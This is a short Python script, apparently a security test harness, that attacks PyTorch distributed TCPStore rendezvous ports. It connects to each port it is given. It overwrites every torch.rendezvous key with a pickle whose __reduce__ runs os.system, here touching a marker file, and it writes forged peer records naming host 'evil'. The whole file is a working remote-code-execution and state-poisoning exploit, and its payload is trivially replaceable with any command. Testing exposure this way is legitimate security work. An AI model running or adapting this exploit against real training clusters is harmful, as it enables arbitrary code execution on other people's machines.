"""A process of somebody else's in the network: `attacker.py MARKER HOST PORT...`.

It joins whatever store it finds at the ports, and writes a pickle that would create the file MARKER
to every key at which torch's elastic rendezvous keeps its state, and forged introductions. It
prints, for each port, what it could do there.
"""

from __future__ import annotations

import base64
import json
import os
import pickle
import socket
import sys
import threading
from datetime import timedelta

from torch.distributed import TCPStore


class _Payload:
    """Runs a command where it is unpickled."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch {self.marker}",)


def attack(marker: str, host: str, port: int) -> str:
    try:
        socket.create_connection((host, port), timeout=5).close()
    except OSError as error:
        return f"closed: {error.strerror or error}"
    try:
        store = TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=5))
    except (RuntimeError, ValueError):
        return "no store"
    state = base64.b64encode(pickle.dumps(_Payload(marker))).decode()
    for key in store.list_keys():
        if key.removeprefix("/").startswith("torch.rendezvous"):
            store.set(key.removeprefix("/"), state)
    forged = {"ticket": "x", "rank": 1, "host": "evil", "address": "10.6.6.6"}
    for key in ("samestep/machines/1", "samestep/ranks/1", "attempt 0/samestep/ranks/1"):
        store.set(key, bytes(32) + json.dumps(forged).encode())
    return "written to"


def within_seconds(port: int) -> str:
    """The answer of one port; torch waits forever for what is no store."""
    answers: list[str] = []

    def join() -> None:
        answers.append(attack(sys.argv[1], sys.argv[2], port))

    attacking = threading.Thread(target=join, daemon=True)
    attacking.start()
    attacking.join(6)
    return answers[0] if answers else "no store"


if __name__ == "__main__":
    for port in map(int, sys.argv[3:]):
        print(port, within_seconds(port), flush=True)
    os._exit(0)
